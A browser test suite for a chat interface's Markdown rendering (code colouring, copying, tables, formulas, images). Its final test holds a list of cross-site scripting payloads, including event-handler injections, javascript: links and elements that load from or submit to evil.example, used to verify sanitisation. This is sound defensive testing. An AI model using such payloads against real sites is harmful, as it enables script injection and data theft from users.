import { test } from 'vitest'
import { chatText } from '#web/text/chat.ts'
import { markdownText } from '#web/text/markdown.ts'
import type { VisitOptions } from '../../world/browser.ts'
import { answers, ask, button, expect } from '../screen/chat-screen.ts'
import { useBrowserWorld } from '../../world/browser-world.ts'

const world = useBrowserWorld()

/** The page with an answer of these words; every request to another host is noted and gets a tiny image. */
async function showAnswer(text: string, visit: VisitOptions = {}) {
  const page = await world.visit('/chat', { client: await world.user(), ...visit })
  const foreign: string[] = []
  await page.route(
    (url) => !url.href.startsWith(world.url),
    (route) => {
      foreign.push(route.request().url())
      return route.fulfill({
        contentType: 'image/svg+xml',
        body: '<svg xmlns="http://www.w3.org/2000/svg"/>',
      })
    },
  )
  world.upstream.script('scripted', { text, chars: 40 })
  await ask(page, '请写')
  await expect(answers(page)).toHaveAttribute('aria-busy', 'false')
  return { page, foreign }
}

const CODE =
  'def gcd(a: int, b: int) -> int:\n    """最大公约数。"""\n    return a if b == 0 else gcd(b, a % b)'

test('code has colours, and its button copies it', async () => {
  const { page } = await showAnswer(`请看：\n\n\`\`\`python\n${CODE}\n\`\`\`\n`)
  const colours = async () => {
    const all = await page
      .locator('pre code *')
      .evaluateAll((spans) => spans.map((span) => getComputedStyle(span).color))
    return new Set(all).size
  }
  await expect.poll(colours).toBeGreaterThan(1)
  await expect(page.locator('pre code')).toHaveText(CODE)
  await button(page, chatText.copy).click()
  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(CODE)
})

test('a whole answer is copied as it was written', async () => {
  const text = '**渠**：水到*渠*成。'
  const { page } = await showAnswer(text)
  await expect(answers(page).locator('strong')).toHaveText('渠')
  await button(page, chatText.copyAnswer).click()
  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(text)
})

test('a wide table scrolls by itself, not the page', async () => {
  const row = (cell: string) => `| ${Array.from({ length: 14 }, (_, n) => `${cell}${n}`).join(' | ')} |`
  const { page } = await showAnswer(
    [row('列名称'), row('---').replace(/\d+/g, ''), row('内容内容')].join('\n'),
    { look: 'phone' },
  )
  const table = answers(page).locator('table')
  await expect(table.getByRole('cell', { name: '内容内容13' })).not.toBeInViewport()
  await table.locator('..').evaluate((box) => box.scrollTo(box.scrollWidth, 0))
  await expect(table.getByRole('cell', { name: '内容内容13' })).toBeInViewport()
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(390)
})

test('formulas are set, inline and displayed, in both notations', async () => {
  const { page } = await showAnswer(
    '设 $a^2+b^2=c^2$，又 \\(x\\)。\n\n$$\n\\int_0^1 x\\,dx=\\frac12\n$$\n\n\\[ E=mc^2 \\]\n',
  )
  await expect(answers(page).locator('.katex')).toHaveCount(4)
  await expect(answers(page).locator('.katex-display')).toHaveCount(2)
  await expect(answers(page)).not.toContainText('$')
})

test('no line begins with a citation or the punctuation behind a formula, nor ends with a bracket before one', async () => {
  const { page } = await showAnswer(
    '根据（$a^2+b^2=c^2$）。所以取 $x$，并且「$y=1+2$」：于是 $z$；再来 $\\frac{a}{b}+c+d+e$：天光云影[^1]。\n\n[^1]: 半亩方塘。',
  )
  const paragraph = answers(page).locator('p').first()
  await expect(paragraph.locator('.katex')).toHaveCount(5)
  const misplaced = await paragraph.evaluate((element) => {
    const getLine = (node: Node, at: number): number => {
      const range = document.createRange()
      range.setStart(node, at)
      range.setEnd(node, at + 1)
      return range.getBoundingClientRect().bottom
    }
    const isApart = (line: number, box: Element | undefined): boolean =>
      box !== undefined && Math.abs(line - box.getBoundingClientRect().bottom) > 14
    const boxes = [...element.querySelectorAll('.katex-html, .md-note-ref')]
    const found: number[] = []
    for (let width = 90; width < 420; width++) {
      element.style.width = `${width}px`
      for (const html of boxes) {
        const glue = html.closest('.md-tex, .md-note-ref')!
        const parts = html.matches('.katex-html') ? [...html.querySelectorAll('.katex-base')] : [html]
        const [before, after] = [glue.previousSibling, glue.nextSibling]
        if (after instanceof Text && isApart(getLine(after, 0), parts.at(-1))) found.push(width)
        if (
          before instanceof Text &&
          /[（「影]$/.test(before.data) &&
          isApart(getLine(before, before.length - 1), parts[0])
        )
          found.push(width)
      }
    }
    return { found, boxes: boxes.length }
  })
  expect(misplaced).toEqual({ found: [], boxes: 6 })
})

test('a remote image opens in a tab of its own, which knows nothing of this one', async () => {
  const { page, foreign } = await showAnswer('看图：![荷塘](https://images.example/pond.png)')
  await page.context().route('https://images.example/**', (route) => route.fulfill({ body: '荷塘' }))
  const opened = page.context().waitForEvent('page')
  await answers(page)
    .getByRole('link', { name: markdownText.openImage('荷塘', 'images.example') })
    .click()
  const tab = await opened
  await expect(tab).toHaveURL('https://images.example/pond.png')
  expect(await tab.evaluate(() => [document.referrer, window.opener as unknown])).toEqual(['', null])
  expect(foreign).toEqual([])
})

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src="https://evil.example/a.png" onerror="alert(2)">',
  '<svg onload="alert(3)"><a xlink:href="javascript:alert(4)"><text>点</text></a></svg>',
  '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/o"></object>',
  '<form action="https://evil.example/f"><input name="q"><button>提交</button></form>',
  '<style>@import "https://evil.example/s.css"; body { background: url(https://evil.example/b.png) }</style>',
  '<div style="background:url(https://evil.example/d.png);position:fixed;inset:0">盖住</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(5)></style></mglyph></table></mtext></math>',
  '<details open ontoggle="alert(6)"><summary>看</summary></details>',
  '[点我](javascript:alert(7)) [点我](data:text/html,<script>alert(8)</script>)',
  '![x](javascript:alert(9)) ![y](https://evil.example/"onerror="alert(10))',
  '```html"><img src=x onerror=alert(11)>\n<script>alert(12)</script>\n```',
  '$\\href{javascript:alert(13)}{x}$ $$\\includegraphics{https://evil.example/k.png}$$',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/l.css"><video src="https://evil.example/v" autoplay></video>',
]

test('an answer that attacks does nothing, though no policy of the page hinders it', async () => {
  const dialogs: string[] = []
  const { page, foreign } = await showAnswer([...ATTACKS, '到此为止。'].join('\n\n'), { bypassCsp: true })
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await expect(answers(page)).toContainText('到此为止。')
  for (const link of await answers(page).getByText('点我').all()) await link.click()
  const address = page.url()
  await page.reload()
  await expect(answers(page)).toContainText('到此为止。')
  expect(page.url()).toBe(address)
  expect(dialogs).toEqual([])
  expect(foreign).toEqual([])
  await expect(
    answers(page).locator('script, iframe, object, form, style, base, meta, link, video, svg a'),
  ).toHaveCount(0)
  await expect(answers(page).locator('a[href^="javascript:"], a[href^="data:"]')).toHaveCount(0)
  const handlers = await answers(page)
    .locator('*')
    .evaluateAll((all) =>
      all.flatMap((one) => one.getAttributeNames().filter((name) => name.startsWith('on'))),
    )
  expect(handlers).toEqual([])
})
